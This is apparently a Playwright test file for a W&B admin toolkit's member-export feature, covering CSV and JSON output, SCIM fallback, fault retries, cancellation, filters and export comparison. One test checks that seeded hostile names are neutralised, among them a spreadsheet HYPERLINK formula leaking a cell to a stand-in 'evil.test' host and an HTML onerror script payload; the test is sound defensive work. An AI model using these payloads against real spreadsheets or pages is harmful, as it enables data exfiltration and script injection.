import { readFile } from 'node:fs/promises';
import type { Download, Page } from '@playwright/test';
import Papa from 'papaparse';
import { deriveApiKeySecret } from '../simulator/state';
import { EXPORT_HEADER, expectedExportRows, exportDateTime, exportKey } from './expectations';
import { expect, saveDefaults, test, testAdminKey, type WandbPage } from './fixtures';

async function parseCsvDownload(
  download: Download,
): Promise<{ text: string; header: string[]; rows: Record<string, string>[] }> {
  const text = await readFile((await download.path())!, 'utf8');
  const parsed = Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  const [header, ...records] = parsed.data;
  return {
    text,
    header: header!,
    rows: records.map((record) => Object.fromEntries(header!.map((name, i) => [name, record[i] ?? '']))),
  };
}

async function openExport(wandb: WandbPage) {
  await wandb.bar.getByRole('button', { name: 'Export members' }).click();
  const dialog = wandb.ui.getByRole('dialog', { name: 'Export members' });
  await expect(dialog).toBeVisible();
  await expect(dialog.getByRole('button', { name: 'Export', exact: true })).toBeEnabled({ timeout: 30_000 });
  return dialog;
}

async function exportCsv(page: Page, dialog: ReturnType<Page['getByRole']>): Promise<Download> {
  const downloadPromise = page.waitForEvent('download');
  await dialog.getByRole('button', { name: 'Export', exact: true }).click();
  return downloadPromise;
}

test('exports every member and pending invite exactly once, with the right values, Excel-safe', async ({
  wandb,
  sim,
}) => {
  await wandb.signIn(sim.sim.admin);
  const dialog = await openExport(wandb);
  const download = await exportCsv(wandb.page, dialog);
  expect(download.suggestedFilename()).toMatch(/^wandb-acme-members-\d{4}-\d{2}-\d{2}\.csv$/);

  const { text, header, rows } = await parseCsvDownload(download);
  expect(text.startsWith('\uFEFF')).toBe(true);
  expect(header).toEqual(EXPORT_HEADER);
  const expected = expectedExportRows(sim.state(), { orgFields: true });
  expect(rows).toHaveLength(expected.size);
  const seen = new Set<string>();
  for (const row of rows) {
    const key = exportKey(row);
    expect(seen.has(key), `${key} appears once`).toBe(false);
    seen.add(key);
    expect(row, key).toEqual(expected.get(key));
  }
  // The hostile names of the default seed arrive neutralised and otherwise unchanged.
  const names = rows.map((row) => row.name);
  expect(names).toContain(`'=HYPERLINK("https://evil.test/?x="&A1,"Click me")`);
  expect(names).toContain("'+33 Pat Plus");
  expect(names).toContain('Lina\nNewline');
  expect(names).toContain('<img src=x onerror=alert(1)>');
});

test.describe('on a W&B server without the third-party-observed fields', () => {
  test.use({ simOptions: { strictVerified: true } });

  test('the per-team export has the same people, teams and team roles; org-only fields are left empty', async ({
    wandb,
    sim,
  }) => {
    await wandb.signIn(sim.sim.admin);
    const dialog = await openExport(wandb);
    await expect(dialog.getByRole('note')).toContainText(
      'teams visible to you; members outside them are not listed',
    );
    const { rows } = await parseCsvDownload(await exportCsv(wandb.page, dialog));
    const expected = expectedExportRows(sim.state(), { orgFields: false });
    expect(new Map(rows.map((row) => [exportKey(row), row]))).toEqual(expected);
  });

  test('with the admin key, SCIM fills what the session cannot read: every member has an org role and status', async ({
    wandb,
    sim,
    browser_,
  }) => {
    await testAdminKey(browser_, deriveApiKeySecret('org-1', 'alice', 'alice-admin-key'));

    await wandb.signIn(sim.sim.admin);
    await expect(
      wandb.ui.getByRole('note').filter({ hasText: 'read through SCIM with the admin key' }),
    ).toBeVisible({
      timeout: 20_000,
    });
    sim.clearRequests();
    const dialog = await openExport(wandb);
    await expect(dialog.getByRole('note')).toHaveText(
      'W&B refused the organization query to your session, so org roles, team roles and members outside your teams were read through SCIM with the admin key; pending invites are those of your teams (SCIM does not list invites).',
    );
    const { rows } = await parseCsvDownload(await exportCsv(wandb.page, dialog));
    const state = sim.state();
    const expected = expectedExportRows(state, { orgFields: false });
    for (const m of state.members) {
      const row = expected.get(m.username);
      if (row) Object.assign(row, { org_role: m.orgRole, status: m.status ?? 'active' });
    }
    expect(new Map(rows.map((row) => [exportKey(row), row]))).toEqual(expected);
    expect(rows.filter((row) => row.username !== '' && row.org_role === '')).toEqual([]);
    // Read-only: SCIM was only read.
    expect(sim.requests().filter((r) => r.kind === 'scim' && r.method !== 'GET')).toEqual([]);
    expect(sim.requests().some((r) => r.kind === 'scim' && r.path.endsWith('/Users'))).toBe(true);
  });
});

test('faults while loading are retried and give the same file', async ({ wandb, sim }) => {
  await wandb.signIn(sim.sim.admin);
  const clean = await parseCsvDownload(await exportCsv(wandb.page, await openExport(wandb)));
  await wandb.ui
    .getByRole('dialog', { name: 'Export members' })
    .getByRole('button', { name: 'Close' })
    .click();

  sim.configure({ rateLimitNext: 2, retryAfterSeconds: 1, errorNext: 2, dropNext: 1 });
  const faulty = await parseCsvDownload(await exportCsv(wandb.page, await openExport(wandb)));
  expect(faulty.rows).toEqual(clean.rows);
  const faults = sim
    .graphqlRequests()
    .map((request) => request.fault)
    .filter(Boolean);
  expect(faults.sort()).toEqual(['dropped', 'rate-limited', 'rate-limited', 'server-error', 'server-error']);
});

test('session expiry while loading says "sign in again" and saves nothing', async ({ wandb, sim }) => {
  await wandb.signIn(sim.sim.admin);
  await expect(wandb.figures).toBeVisible();
  let downloads = 0;
  wandb.page.on('download', () => downloads++);
  sim.configure({ expireSessionAfter: 1 });
  await wandb.bar.getByRole('button', { name: 'Export members' }).click();
  const dialog = wandb.ui.getByRole('dialog', { name: 'Export members' });
  await expect(dialog.getByRole('alert')).toContainText('Sign in to W&B again');
  await expect(dialog.getByRole('button', { name: 'Export', exact: true })).toBeDisabled();
  expect(downloads).toBe(0);
});

test('from a team settings page the export is scoped to that team', async ({ wandb, sim }) => {
  await wandb.signIn(sim.sim.admin, '/vision/settings');
  const dialog = await openExport(wandb);
  await expect(dialog.getByText('Team vision')).toBeVisible();
  const download = await exportCsv(wandb.page, dialog);
  expect(download.suggestedFilename()).toMatch(/^wandb-acme-vision-members-\d{4}-\d{2}-\d{2}\.csv$/);
  const { rows } = await parseCsvDownload(download);
  const state = sim.state();
  const vision = state.teams.find((team) => team.name === 'vision')!;
  const members = rows.filter((row) => row.status !== 'invite-pending');
  expect(members.map((row) => row.username).sort()).toEqual(vision.members.map((m) => m.username).sort());
  for (const row of members) {
    const role = vision.members.find((m) => m.username === row.username)!.role;
    expect(row.teams).toBe(`vision:${role}`);
  }
  const invites = rows.filter((row) => row.status === 'invite-pending').map((row) => row.email);
  expect(invites.sort()).toEqual(
    state.invites
      .filter((i) => i.team === 'vision')
      .map((i) => i.email)
      .sort(),
  );
});

test.describe('a generated organization', () => {
  test.use({ simOptions: { generate: { members: 400, teams: 12, seed: 3 } } });

  test('exports every member and invite of the generated org with the right values', async ({
    wandb,
    sim,
  }) => {
    await wandb.signIn(sim.sim.admin);
    const { rows } = await parseCsvDownload(await exportCsv(wandb.page, await openExport(wandb)));
    const expected = expectedExportRows(sim.state(), { orgFields: true });
    expect(rows).toHaveLength(expected.size);
    expect(new Map(rows.map((row) => [exportKey(row), row]))).toEqual(expected);
  });
});

test('compare with a previous export lists joiners, leavers, new invites (never joiners) and changes, and downloads them', async ({
  wandb,
  sim,
}) => {
  await wandb.signIn(sim.sim.admin);
  const before = await exportCsv(wandb.page, await openExport(wandb));
  const previousPath = (await before.path())!;
  await wandb.ui
    .getByRole('dialog', { name: 'Export members' })
    .getByRole('button', { name: 'Close' })
    .click();

  // Between the two exports: frank leaves, carol becomes an org admin, someone new is invited.
  sim.sim.state.removeFromOrg('frank');
  sim.sim.state.setOrgRole('carol', 'admin');
  const admin = sim.sim.state.members.get(sim.sim.admin) ?? null;
  sim.sim.state.createInvite(admin, { entityName: 'nlp', email: 'newcomer@acme.test', role: 'member' });

  const dialog = await openExport(wandb);
  await dialog.getByLabel('Compare with a previous export').setInputFiles({
    name: before.suggestedFilename(),
    mimeType: 'text/csv',
    buffer: await readFile(previousPath),
  });
  await expect(dialog.getByRole('list', { name: 'Comparison counts' }).getByRole('listitem')).toHaveText([
    '0 joiners',
    '1 leaver',
    '1 new invite',
    '0 invites gone',
    '1 change',
  ]);
  const downloadPromise = wandb.page.waitForEvent('download');
  await dialog.getByRole('button', { name: 'Download comparison' }).click();
  const { header, rows } = await parseCsvDownload(await downloadPromise);
  expect(header).toEqual(['change', 'username', 'email', 'field', 'before', 'after']);
  expect(rows).toEqual([
    { change: 'left', username: 'frank', email: 'frank@acme.test', field: '', before: '', after: '' },
    { change: 'invited', username: '', email: 'newcomer@acme.test', field: '', before: '', after: '' },
    {
      change: 'changed',
      username: 'carol',
      email: 'carol@acme.test',
      field: 'org_role',
      before: 'member',
      after: 'admin',
    },
  ]);
});

test('a previous file from another org is refused with a clear message', async ({ wandb, sim }) => {
  await wandb.signIn(sim.sim.admin);
  const dialog = await openExport(wandb);
  await dialog.getByLabel('Compare with a previous export').setInputFiles({
    name: 'wandb-globex-members-2026-10-01.csv',
    mimeType: 'text/csv',
    buffer: Buffer.from(
      'username,name,email,org_role,models_seat,weave_access,status,account_type,teams,last_active,invited_at\r\n',
    ),
  });
  await expect(dialog.getByRole('alert')).toContainText('globex');
  await expect(dialog.getByRole('alert')).toContainText('acme');
});

test.describe('a W&B server that is still answering', () => {
  test.use({ simOptions: { strictVerified: true } });

  test('cancel stops loading, says nothing was saved, and sends no more requests', async ({ wandb, sim }) => {
    let downloads = 0;
    wandb.page.on('download', () => downloads++);
    await wandb.signIn(sim.sim.admin);
    await expect(wandb.figures).toBeVisible();
    // W&B holds every team read of the export's load (all eight go at once) until after Cancel.
    const teams = sim.state().teams.length;
    const gate = sim.hold({ operation: 'TeamMembers', count: teams });
    await wandb.bar.getByRole('button', { name: 'Export members' }).click();
    const dialog = wandb.ui.getByRole('dialog', { name: 'Export members' });
    await expect(dialog.getByRole('progressbar', { name: 'Loading members' })).toBeVisible();
    await gate.waitForHeld(teams);
    await dialog.getByRole('button', { name: 'Cancel' }).click();
    await expect(dialog.getByRole('alert')).toHaveText(/Loading was cancelled; nothing was saved\./);
    const afterCancel = sim.graphqlRequests().length;
    gate.open();
    // A window, to show that something does not happen: no read is started after Cancel.
    await wandb.page.waitForTimeout(1000);
    expect(sim.graphqlRequests().slice(afterCancel)).toEqual([]);
    await expect(dialog.getByRole('button', { name: 'Export', exact: true })).toBeDisabled();
    expect(downloads).toBe(0);
  });
});

test('JSON export carries the org, the columns and every row, not neutralised', async ({ wandb, sim }) => {
  await wandb.signIn(sim.sim.admin);
  const dialog = await openExport(wandb);
  await dialog.getByRole('radio', { name: 'JSON' }).check();
  const download = await exportCsv(wandb.page, dialog);
  expect(download.suggestedFilename()).toMatch(/^wandb-acme-members-\d{4}-\d{2}-\d{2}\.json$/);
  const document = JSON.parse(await readFile((await download.path())!, 'utf8')) as {
    format: string;
    org: string;
    columns: string[];
    rows: Record<string, string>[];
  };
  expect(document.format).toBe('wandb-admin-toolkit/members');
  expect(document.org).toBe('acme');
  expect(document.columns).toEqual(EXPORT_HEADER);
  const state = sim.state();
  expect(document.rows).toHaveLength(state.members.length + state.invites.length);
  const hostile = state.members.find((member) => member.name.startsWith('='))!;
  expect(document.rows.find((row) => row.username === hostile.username)?.name).toBe(hostile.name);
});

test('a copy kept on this device (opt-in) is offered for the next comparison', async ({ wandb, sim }) => {
  await wandb.signIn(sim.sim.admin);
  let dialog = await openExport(wandb);
  await expect(dialog.getByRole('button', { name: /Compare with the last export/ })).toHaveCount(0);
  await dialog.getByRole('checkbox', { name: 'Keep a copy on this device for the next comparison' }).check();
  await exportCsv(wandb.page, dialog);
  await dialog.getByRole('button', { name: 'Close' }).click();

  sim.sim.state.setOrgRole('erin', 'admin');
  dialog = await openExport(wandb);
  await dialog
    .getByRole('button', {
      name: /Compare with the last export \(wandb-acme-members-.*\.csv, kept on this device\)/,
    })
    .click();
  await expect(dialog.getByRole('list', { name: 'Comparison counts' }).getByRole('listitem')).toHaveText([
    '0 joiners',
    '0 leavers',
    '0 new invites',
    '0 invites gone',
    '1 change',
  ]);
});

test('opt-in run heartbeats raise last_active to each member’s latest run', async ({ wandb, sim }) => {
  await wandb.signIn(sim.sim.admin);
  const dialog = await openExport(wandb);
  const option = dialog.getByRole('checkbox', { name: 'Last activity from run heartbeats (slower)' });
  await expect(option).toHaveAccessibleDescription(/at least one request per team/);
  await option.check();
  await expect(dialog.getByRole('button', { name: 'Export', exact: true })).toBeEnabled({ timeout: 30_000 });
  const { rows } = await parseCsvDownload(await exportCsv(wandb.page, dialog));

  const state = sim.state() as ReturnType<typeof sim.state> & {
    projects?: { runs: { user: string | null; heartbeatAt: string | null }[] }[];
  };
  const latestRun = new Map<string, string>();
  for (const project of state.projects ?? []) {
    for (const run of project.runs) {
      if (!run.user || !run.heartbeatAt) continue;
      const seen = latestRun.get(run.user);
      if (!seen || Date.parse(run.heartbeatAt) > Date.parse(seen)) latestRun.set(run.user, run.heartbeatAt);
    }
  }
  expect(latestRun.size).toBeGreaterThan(3);
  let raised = 0;
  for (const member of state.members) {
    const row = rows.find((r) => r.username === member.username)!;
    const login = member.lastLoginAt ? Date.parse(member.lastLoginAt) : 0;
    const run = latestRun.has(member.username) ? Date.parse(latestRun.get(member.username)!) : 0;
    const expected = Math.max(login, run);
    expect(row.last_active, member.username).toBe(
      expected ? exportDateTime(new Date(expected).toISOString()) : '',
    );
    if (run > login) raised++;
  }
  expect(raised).toBeGreaterThan(0);
  expect(sim.graphqlRequests().some((request) => request.operationName === 'Runs')).toBe(true);
});

test("the options page's inactivity threshold fills the export's filter, off until ticked; ticked, the file holds only the inactive rows", async ({
  wandb,
  sim,
  browser_,
}) => {
  await saveDefaults(browser_, [['Inactivity threshold (days)', '200']]);

  await wandb.signIn(sim.sim.admin);
  const dialog = await openExport(wandb);
  const expected = expectedExportRows(sim.state(), { orgFields: true });
  await expect(dialog.getByRole('status')).toHaveText(`${expected.size} of ${expected.size} rows match`);
  // Collapsed at first; opened, the box holds the options page's threshold.
  const days = dialog.getByRole('spinbutton', { name: 'No activity for at least N days' });
  await expect(days).toBeHidden();
  await dialog.getByText('Filters', { exact: true }).click();
  await expect(days).toHaveValue('200');
  const only = dialog.getByRole('checkbox', { name: 'Only inactive members' });
  await expect(only).not.toBeChecked();
  await only.check();
  await expect(dialog.getByText('Filters (1 on)', { exact: true })).toBeVisible();

  const cutoff = Date.now() - 200 * 86_400_000;
  const inactive = [...expected].filter(
    ([, row]) => row.last_active === '' || Date.parse(row.last_active!) <= cutoff,
  );
  expect(inactive.length).toBeGreaterThan(0);
  expect(inactive.length).toBeLessThan(expected.size);
  await expect(dialog.getByRole('status')).toHaveText(`${inactive.length} of ${expected.size} rows match`);
  const { rows } = await parseCsvDownload(await exportCsv(wandb.page, dialog));
  expect(rows.map(exportKey).sort()).toEqual(inactive.map(([key]) => key).sort());
});

test('the preview sorts by a column: pressed once ascending, again descending, with the file left in W&B’s order', async ({
  wandb,
  sim,
}) => {
  await wandb.signIn(sim.sim.admin);
  const dialog = await openExport(wandb);
  const table = dialog.getByRole('table', { name: /^Preview/ });
  const header = table.getByRole('columnheader', { name: 'email' });
  const emailIndex = await header.evaluate((th) => (th as HTMLTableCellElement).cellIndex);
  const shownEmails = () =>
    table
      .locator('tbody tr')
      .evaluateAll(
        (rows, index) => rows.map((r) => (r as HTMLTableRowElement).cells[index]?.textContent ?? ''),
        emailIndex,
      );
  const emails = [...expectedExportRows(sim.state(), { orgFields: true }).values()].map(
    (row) => row.email ?? '',
  );
  const byEmail = (direction: 1 | -1) =>
    [...emails]
      .map((email) => email.toLowerCase())
      .sort((a, b) => (a === b ? 0 : a === '' ? 1 : b === '' ? -1 : (a < b ? -1 : 1) * direction));
  const shownCount = (await shownEmails()).length;
  expect(shownCount).toBeGreaterThan(1);

  await header.getByRole('button', { name: 'email' }).click();
  await expect(header).toHaveAttribute('aria-sort', 'ascending');
  await expect(table).toHaveAccessibleName(/sorted by email \(ascending\); the file keeps W&B's order/);
  expect((await shownEmails()).map((e) => e.toLowerCase())).toEqual(byEmail(1).slice(0, shownCount));

  await header.getByRole('button', { name: 'email' }).click();
  await expect(header).toHaveAttribute('aria-sort', 'descending');
  expect((await shownEmails()).map((e) => e.toLowerCase())).toEqual(byEmail(-1).slice(0, shownCount));

  // The file keeps W&B's order: the same rows as without a sort.
  const { rows } = await parseCsvDownload(await exportCsv(wandb.page, dialog));
  expect(rows.map((row) => (row.email ?? '').toLowerCase())).not.toEqual(byEmail(-1));
  expect(rows).toHaveLength(emails.length);
});
